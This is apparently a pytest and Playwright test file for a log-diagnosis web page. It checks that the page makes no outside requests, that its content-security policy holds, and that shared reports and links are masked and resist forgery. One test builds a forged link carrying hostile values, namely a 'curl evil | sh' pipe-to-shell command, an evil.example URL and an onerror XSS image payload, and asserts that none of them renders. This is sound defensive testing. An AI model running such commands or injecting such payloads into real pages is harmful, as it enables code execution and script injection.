"""Nothing leaves: no request, a policy, masked reports, and links that hold no log."""

from __future__ import annotations

import base64
import hashlib
import os
import re
from pathlib import Path
from typing import Any

import pytest
from page_driver import LOG, UNKNOWN, copied, paste, verdict, watched
from playwright.sync_api import BrowserContext, Page, expect
from site_build import CHROMIUM, serve

from faultbook_mkdocs.policy import policy, with_policy

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None and not os.environ.get("CI"), reason="Chromium is not installed"),
]


def test_nothing_is_loaded_before_use_and_no_request_follows_a_log(
    context: BrowserContext, address: str, errors: list[str]
) -> None:
    page = watched(context, errors)
    requests: list[Any] = []
    context.on("request", lambda request: requests.append(request))  # noqa: PLW0108 -- Playwright marks the function
    page.goto(f"{address}diagnose/", wait_until="networkidle")
    before = {request.url.removeprefix(address) for request in requests}
    assert {path for path in before if "diagnose" in path} == {"diagnose/", "assets/diagnose.css", "assets/diagnose.js"}
    assert "signatures.json" not in before
    paste(page, LOG)
    verdict(page)
    used = {request.url.removeprefix(address) for request in requests if not request.url.startswith("blob:")} - before
    assert all(re.fullmatch(r"assets/(?:diagnose-|engine/)[\w/-]+\.js|signatures\.json", path) for path in used), used
    assert {request.method for request in requests} == {"GET"}
    # Everything is here now: no request at all, and no need of a network.
    del requests[:]
    context.set_offline(True)
    paste(page, UNKNOWN)
    expect(page.locator("#fb-verdict")).to_contain_text("the book has no entry")
    page.click(".fb-first .fb-ref")
    page.wait_for_selector(".fb-around mark")
    assert [request.url for request in requests] == []
    assert errors == []


def test_the_policy_stops_page_and_worker_from_asking_another_host(
    context: BrowserContext, address: str, tmp_path: Path
) -> None:
    page = context.new_page()
    page.goto(f"{address}diagnose/")
    ask = """async (to) => {
      const ask = `fetch(${JSON.stringify(to)}, { mode: "no-cors" }).then(() => "sent", () => "stopped")`;
      const address = URL.createObjectURL(new Blob([`${ask}.then(postMessage)`], { type: "text/javascript" }));
      const worker = new Worker(address, { type: "module" });
      const inWorker = new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
      const inPage = fetch(to, { mode: "no-cors" }).then(() => "sent", () => "stopped");
      return [await inPage, await inWorker];
    }"""
    with serve(tmp_path) as elsewhere:
        assert page.evaluate(ask, elsewhere) == ["stopped", "stopped"]
        page.goto(f"{address}about/")
        assert page.evaluate(ask, elsewhere) == ["sent", "sent"]


def test_the_policy_allows_the_scripts_that_stand_in_the_page_and_no_others() -> None:
    html = '<head><meta charset="utf-8"><script>a()</script><script type="application/json">{}</script><script src="x"></script>'
    digest = base64.b64encode(hashlib.sha256(b"a()").digest()).decode()
    assert f"script-src 'self' 'sha256-{digest}'; " in policy(html)
    assert with_policy(html).index("Content-Security-Policy") < with_policy(html).index("<script>")
    with pytest.raises(ValueError, match="no <meta charset>"):
        with_policy("<head></head>")


def test_a_report_is_shown_masked_before_it_is_copied(page: Page) -> None:
    paste(page, UNKNOWN.replace("step 1", "password=hunter2 step 1"))
    verdict(page)
    page.click(".fb-share summary")
    assert "/home/[user-1]/run/train.py" in page.inner_text(".fb-preview")
    assert page.locator(".fb-preview mark").count() >= 1
    report = copied(page, "#fb-copy-report")
    assert report == page.inner_text(".fb-preview")
    assert "alice" not in report
    assert "ShardError: no index in shard" in report
    page.uncheck("#fb-mask")
    assert "alice" in copied(page, "#fb-copy-report")
    assert page.locator(".fb-preview mark").count() == 0


def test_a_link_holds_the_result_and_not_the_log(page: Page, context: BrowserContext, errors: list[str]) -> None:
    page.click("a[data-incident=nccl-timeout-behind-a-dead-gpu]")
    said = verdict(page)
    page.click(".fb-share summary")
    link = copied(page, "#fb-copy-link")
    assert len(link) < 4000
    other = watched(context, errors)
    other.goto(link)
    assert verdict(other) == said
    assert "the log is not in it" in other.inner_text("#fb-result")
    assert "GPU has fallen off the bus." in other.inner_text(".fb-first mark")
    assert other.inner_text(".fb-answer h4") == "First fix"
    assert other.locator(".fb-timeline").is_visible()
    assert other.locator(".fb-ref").count() == 0


def test_a_link_is_always_masked(page: Page, context: BrowserContext, errors: list[str]) -> None:
    paste(page, UNKNOWN.replace("/mnt/nfs", "/home/alice"))
    verdict(page)
    page.click(".fb-share summary")
    page.uncheck("#fb-mask")
    other = watched(context, errors)
    other.goto(copied(page, "#fb-copy-link"))
    verdict(other)
    assert "alice" not in other.inner_text("#fb-result")
    assert "/home/[user-1]" in other.inner_text("#fb-result")


def test_a_forged_link_cannot_speak_for_the_book_nor_leave_it(
    context: BrowserContext, address: str, errors: list[str]
) -> None:
    page = watched(context, errors)
    page.goto(f"{address}diagnose/")
    forged = page.evaluate(
        """async () => {
          const { toFragment } = await import("../assets/diagnose-link.js");
          const item = { slug: "memory/cuda-oom-capacity", title: "EVIL", summary: "EVIL", fix: "EVIL", code: "curl evil | sh", url: "https://evil.example/",
            file: "a", line: 1, rank: 0, ranks: [], captures: { x: "<img src=x onerror=alert(1)>" }, signature: "s", verify: "EVIL", confirm: "EVIL", risk: "EVIL", takes: "EVIL", context: [] };
          const answer = { format: 1, verdict: "diagnosed", initiating: null, diagnoses: [item, { ...item, slug: "../evil" }], similar: [], collateral: [],
            ruled_out: [], missing: [], grounds: null, events: [], files: [{ name: "a", bytes: 1, lines: 1 }] };
          return toFragment(answer, (text) => text);
        }"""
    )
    page.goto(f"{address}diagnose/?again#{forged}")
    verdict(page)
    result = page.locator("#fb-result")
    assert "EVIL" not in result.inner_text()
    assert result.locator("img").count() == 0
    assert all("evil" not in link for link in result.locator("a").evaluate_all("all => all.map(a => a.href)"))
    page.goto(f"{address}diagnose/?broken#r=AAAA")
    expect(page.locator("#fb-status")).to_contain_text("holds no result")
    assert errors == []
